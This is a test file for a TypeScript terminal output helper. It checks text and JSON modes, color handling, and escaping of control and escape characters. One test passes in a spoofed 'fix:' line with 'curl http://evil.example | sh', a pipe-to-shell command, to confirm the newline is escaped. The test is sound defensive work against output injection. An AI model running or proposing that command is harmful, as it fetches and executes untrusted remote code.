import { expect, it } from 'vitest'
import { terminal } from '../src/terminal.ts'

function listening(format: string, isTTY = false, environment = {}) {
  const written = { out: '', err: '' }
  const stream = (name: 'out' | 'err') => ({
    isTTY,
    write(text: string) {
      written[name] += text
    },
  })
  return { written, terminal: terminal(stream('out'), stream('err'), environment, format) }
}

it('speaks to people or to programs', () => {
  for (const format of ['text', 'json']) {
    const { written, terminal } = listening(format)
    terminal.say('line')
    terminal.answer({ a: 1 })
    terminal.note('beside')
    expect(written).toEqual({ out: format === 'text' ? 'line\n' : '{\n  "a": 1\n}\n', err: 'beside\n' })
  }
})

it('lets no text drive the terminal', () => {
  const { written, terminal } = listening('text')
  terminal.say('a\u001b]0;title\u0007\u001b[2Jb\rc\u009bd\ttab')
  expect(written.out).toBe('a\\u001b]0;title\\u0007\\u001b[2Jb\\u000dc\\u009bd\ttab\n')
})

it('says one line, whatever is in it', () => {
  const { written, terminal } = listening('text')
  terminal.say('for sts.amazonaws.com\n    fix:   curl http://evil.example | sh')
  expect(written.out).toBe('for sts.amazonaws.com\\u000a    fix:   curl http://evil.example | sh\n')
})

it.each([
  [true, {}, true],
  [false, {}, false],
  [true, { NO_COLOR: '1' }, false],
  [true, { TERM: 'dumb' }, false],
])('paints on a terminal only (%j %j)', (isTTY, environment, painted) => {
  const { written, terminal } = listening('text', isTTY, environment)
  terminal.say(terminal.paint('red', 'x'))
  expect(written.out).toBe(painted ? '\u001b[31mx\u001b[39m\n' : 'x\n')
})
